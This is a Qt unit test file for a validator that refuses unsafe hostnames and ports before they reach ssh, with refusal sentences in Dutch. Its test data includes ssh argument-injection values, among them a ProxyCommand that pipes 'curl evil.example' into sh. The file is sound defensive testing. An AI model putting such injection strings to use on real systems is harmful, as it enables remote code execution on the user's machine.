// The names that may not reach ssh as its host argument, and the sentences that refuse them.

#include "ConnectNameCheck.h"

#include <QTest>

using namespace Qt::StringLiterals;

Q_DECLARE_METATYPE(std::optional<ConnectNameProblem>)

namespace
{

QString repeated(QChar c, qsizetype count)
{
    return QString(count, c);
}

} // namespace

class TestConnectNameCheck : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void problem_data()
    {
        QTest::addColumn<QString>("name");
        QTest::addColumn<std::optional<ConnectNameProblem>>("problem");
        const std::optional<ConnectNameProblem> none;
        const auto control = std::optional(ConnectNameProblem::controlCharacter);
        const auto tooLong = std::optional(ConnectNameProblem::tooLong);
        const auto dash = std::optional(ConnectNameProblem::leadingDash);
        QTest::newRow("plain") << u"web-01"_s << none;
        QTest::newRow("quote") << u"it's"_s << none;
        QTest::newRow("tilde") << u"web~1"_s << none;
        QTest::newRow("user at host") << u"deploy@build7"_s << none;
        QTest::newRow("dash after user") << u"deploy@-x"_s << none;
        QTest::newRow("blank before dash") << u" -oFoo"_s << none;
        QTest::newRow("non-ASCII letter") << u"h\u00f6st"_s << none;
        QTest::newRow("no-break space") << u"a\u00a0b"_s << none;
        QTest::newRow("line separator") << u"a\u2028b"_s << none;
        QTest::newRow("longest allowed") << repeated(u'a', maximumConnectNameLength) << none;
        QTest::newRow("option") << u"-oProxyCommand=touch x"_s << dash;
        QTest::newRow("lone dash") << u"-"_s << dash;
        QTest::newRow("NUL") << u"web\u0000x"_s << control;
        QTest::newRow("tab") << u"web\tx"_s << control;
        QTest::newRow("line feed") << u"web\nx"_s << control;
        QTest::newRow("carriage return") << u"web\r"_s << control;
        QTest::newRow("escape") << u"\u001b[31mweb"_s << control;
        QTest::newRow("DEL") << u"web\u007f"_s << control;
        QTest::newRow("C1 next line") << u"web\u0085x"_s << control;
        QTest::newRow("last C1") << u"web\u009f"_s << control;
        QTest::newRow("one too long") << repeated(u'a', maximumConnectNameLength + 1) << tooLong;
        QTest::newRow("control before dash") << u"-o\nx"_s << control;
        QTest::newRow("control before length") << repeated(u'a', 200'000) + u'\u0000' << control;
        QTest::newRow("length before dash") << u'-' + repeated(u'a', 200'000) << tooLong;
    }

    void problem()
    {
        QFETCH(QString, name);
        QFETCH(std::optional<ConnectNameProblem>, problem);
        QCOMPARE(connectNameProblem(name), problem);
        QCOMPARE(connectHostNameRefusal(name).has_value(), problem.has_value());
    }

    void hostRefusal_data()
    {
        QTest::addColumn<QString>("name");
        QTest::addColumn<QString>("sentence");
        QTest::newRow("option") << u"-oProxyCommand=touch x"_s
                                << u"Deze hostnaam (\"-oProxyCommand=touch x\") begint met \"-\" en zou door ssh als "
                                   u"optie gelezen worden; niet verbonden."_s;
        QTest::newRow("long option shortened")
            << u"-oProxyCommand=sh -c 'curl evil.example | sh'"_s
            << u"Deze hostnaam (\"-oProxyCommand=sh -c 'curl evil.example …\") begint met \"-\" en zou door ssh "
               u"als optie gelezen worden; niet verbonden."_s;
        QTest::newRow("NUL") << u"web\u0000x"_s
                             << u"Deze hostnaam bevat een stuurteken (U+0000) en kan niet veilig aan ssh worden "
                                u"doorgegeven; niet verbonden."_s;
        QTest::newRow("first control named") << u"a\u007fb\nc"_s
                                             << u"Deze hostnaam bevat een stuurteken (U+007F) en kan niet veilig aan "
                                                u"ssh worden doorgegeven; niet verbonden."_s;
        QTest::newRow("C1") << u"a\u009b"_s
                            << u"Deze hostnaam bevat een stuurteken (U+009B) en kan niet veilig aan ssh worden "
                               u"doorgegeven; niet verbonden."_s;
        QTest::newRow("too long") << repeated(u'a', 200'000)
                                  << u"Deze hostnaam (\""_s + repeated(u'a', 40)
                + u"…\") is te lang om aan ssh door te geven (200000 tekens, hooguit 1024); niet verbonden."_s;
        // An emoji is two UTF-16 units; cutting between them would leave half a character.
        QTest::newRow("cut before a surrogate pair") << repeated(u'a', 39) + u"\U0001F600"_s + repeated(u'b', 2000)
                                                     << u"Deze hostnaam (\""_s + repeated(u'a', 39)
                + u"…\") is te lang om aan ssh door te geven (2041 tekens, hooguit 1024); niet verbonden."_s;
    }

    void hostRefusal()
    {
        QFETCH(QString, name);
        QFETCH(QString, sentence);
        QCOMPARE(connectHostNameRefusal(name), std::optional(sentence));
    }

    void portRefusal_data()
    {
        QTest::addColumn<QString>("port");
        QTest::addColumn<QString>("sentence"); // empty: accepted
        QTest::newRow("ordinary") << u"2222"_s << QString();
        QTest::newRow("longest allowed") << repeated(u'9', maximumConnectNameLength) << QString();
        QTest::newRow("too long") << repeated(u'9', 5000)
                                  << u"Dit poortnummer (\""_s + repeated(u'9', 40)
                + u"…\") is te lang om aan ssh door te geven (5000 tekens, hooguit 1024); niet verbonden."_s;
    }

    void portRefusal()
    {
        QFETCH(QString, port);
        QFETCH(QString, sentence);
        QCOMPARE(connectPortRefusal(port).value_or(QString()), sentence);
    }
};

QTEST_GUILESS_MAIN(TestConnectNameCheck)
#include "test_connect_name_check.moc"
